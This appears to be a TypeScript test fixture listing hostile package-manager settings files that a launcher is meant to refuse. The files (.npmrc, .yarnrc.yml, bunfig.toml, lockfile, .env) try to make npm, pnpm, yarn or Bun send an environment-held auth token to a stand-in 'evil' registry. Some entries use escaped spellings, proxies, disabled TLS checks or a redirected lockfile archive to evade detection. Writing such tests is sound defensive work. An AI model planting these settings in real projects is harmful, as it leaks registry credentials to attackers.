import type { Tool } from '../../src/launcher/options.ts'
import type { PackageManager } from './package-managers.ts'

/**
 * A project comes from somebody else, and its files of settings tell package managers what to do with variables. What follows was asked of the
 * real ones: where they are installed, each attack is played with the token in their environment, and arrives; the launcher refuses before that.
 */

export interface RouteAttack {
  readonly what: string
  readonly tool: Tool
  /** Files by name, from what the other registry is called, the variable that carries the token, and our registry. */
  readonly files: (at: RouteAddresses) => Readonly<Record<string, string>>
  /** What the real one is asked to do, where it sends the token then. */
  readonly played?: readonly [PackageManager, ...string[]]
  readonly variable?: string
  readonly said?: string
}

export interface RouteAddresses {
  readonly evil: string
  readonly good: string
  /** npm's bound variable. */
  readonly bound: string
}

/** An address as npm's settings name it: without its scheme. */
export const bare = (url: string) => url.replace('http:', '')
const whoami = ['npm', 'whoami'] as const
const view = ['npm', 'view', 'acme'] as const

export const routeAttacks: readonly RouteAttack[] = [
  {
    what: 'a line for another registry takes the variable',
    tool: 'npm',
    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken=\${${bound}}\n` }),
    played: whoami,
    said: 'names the variable',
  },
  {
    what: 'the same, spelled by numbers',
    tool: 'npm',
    files: ({ evil, bound }) => ({
      '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken="\\u0024{${bound}}"\n`,
    }),
    played: whoami,
  },
  {
    what: 'the same, optional',
    tool: 'npm',
    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\n${bare(evil)}:_authToken=\${${bound}?}\n` }),
    played: whoami,
  },
  {
    what: 'the same with a fallback, as pnpm knows it',
    tool: 'pnpm',
    files: ({ evil, bound }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${${bound}-x}\n` }),
  },
  {
    what: 'the address of the registry takes it',
    tool: 'npm',
    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\${${bound}}/\n` }),
    played: view,
  },
  {
    what: 'a header takes it',
    tool: 'npm',
    files: ({ evil, bound }) => ({ '.npmrc': `registry=${evil}\nuser-agent=\${${bound}}\n` }),
    played: view,
  },
  {
    what: 'a folder above the project takes it',
    tool: 'npm',
    files: ({ evil, bound }) => ({ '../.npmrc': `${bare(evil)}:_authToken=\${${bound}}\n` }),
  },
  {
    what: 'another file of settings is named',
    tool: 'npm',
    files: ({ evil, bound }) => ({
      '.npmrc': `registry=${evil}\nuserconfig=./other\n`,
      other: `${bare(evil)}:_authToken=\${${bound}}\n`,
    }),
    played: whoami,
    said: 'another settings file',
  },
  {
    what: 'a proxy reads what goes to a registry without TLS',
    tool: 'npm',
    files: ({ evil, good }) => ({ '.npmrc': `registry=${good}\nproxy=${evil}\n` }),
    played: whoami,
    said: 'through a proxy',
  },
  {
    what: 'a proxy of the workspace',
    tool: 'pnpm',
    files: ({ evil, good }) => ({
      '.npmrc': `registry=${good}\n`,
      'pnpm-workspace.yaml': `httpProxy: ${evil}\n`,
    }),
    played: ['pnpm', 'whoami'],
  },
  {
    what: 'certificates are not checked',
    tool: 'npm',
    files: () => ({ '.npmrc': 'strict-ssl=false\n' }),
    said: 'switches off the check',
  },
  {
    what: 'certificates are not checked, for one host',
    tool: 'yarn',
    files: () => ({ '.yarnrc.yml': 'networkSettings:\n  "*":\n    enableStrictSsl: false\n' }),
    said: 'switches off the check',
  },
  {
    what: 'a variable of the user’s choice',
    tool: 'npm',
    variable: 'CI_TOKEN',
    files: ({ evil }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${CI_TOKEN}\n` }),
  },
  {
    what: 'a scope elsewhere',
    tool: 'yarn',
    files: ({ evil }) => ({ '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n` }),
    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
    said: 'sends a scope to another registry',
  },
  {
    what: 'a scope elsewhere, with a token that is empty',
    tool: 'yarn',
    files: ({ evil }) => ({
      '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n    npmAuthToken: "\${NOT_SET-}"\n`,
    }),
    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
  },
  {
    what: 'a scope elsewhere, out of an alias',
    tool: 'yarn',
    files: ({ evil }) => ({
      '.yarnrc.yml': `x: &x\n  npmRegistryServer: ${evil}\nnpmScopes:\n  acme:\n    <<: *x\n`,
    }),
  },
  {
    what: 'a scope elsewhere takes the variable',
    tool: 'yarn',
    files: ({ evil }) => ({
      '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: ${evil}\n    npmAuthToken: "\\x24{YARN_NPM_AUTH_TOKEN}"\n`,
    }),
    played: ['yarn', 'npm', 'whoami', '-s', 'acme'],
  },
  {
    what: 'a package that is published elsewhere',
    tool: 'yarn',
    files: ({ evil }) => ({
      'package.json': JSON.stringify({ name: 'tried', version: '1.0.0', publishConfig: { registry: evil } }),
    }),
    said: 'publishes to another registry',
  },
  {
    what: 'an archive elsewhere in the lockfile',
    tool: 'yarn',
    files: ({ evil }) => ({
      'package.json': JSON.stringify({ name: 'tried', dependencies: { '@acme/a': '1.0.0' } }),
      'yarn.lock': `__metadata:\n  version: 10\n  cacheKey: 10c0\n\n"@acme/a@npm:1.0.0":\n  version: 1.0.0\n  resolution: "@acme/a@npm:1.0.0::__archiveUrl=${encodeURIComponent(`${evil}a.tgz`)}"\n  languageName: node\n  linkType: hard\n`,
    }),
    played: ['yarn', 'install'],
    said: 'fetches an archive from another server',
  },
  {
    what: 'the variable of yarn 1’s settings',
    tool: 'yarn',
    files: ({ evil }) => ({ '.npmrc': `${bare(evil)}:_authToken=\${TOKENTRAY_RUN_TOKEN}\n` }),
  },
  {
    what: 'a scope elsewhere that takes Bun’s variable',
    tool: 'bun',
    files: ({ evil }) => ({
      'bunfig.toml': `[install.scopes]\nacme = { url = "${evil}", token = "$BUN_CONFIG_TOKEN" }\n`,
      'package.json': JSON.stringify({ name: 'tried', dependencies: { '@acme/a': '1.0.0' } }),
    }),
    played: ['bun', 'install'],
  },
  {
    what: 'the same, spelled by numbers',
    tool: 'bun',
    files: ({ evil }) => ({
      'bunfig.toml': `[install.scopes]\n__proto__ = { url = "${evil}", token = "\\u0024BUN_CONFIG_TOKEN" }\n`,
    }),
  },
  {
    what: 'by way of an env file',
    tool: 'bun',
    files: () => ({ '.env': 'OTHER=${BUN_CONFIG_TOKEN}\n' }),
  },
]
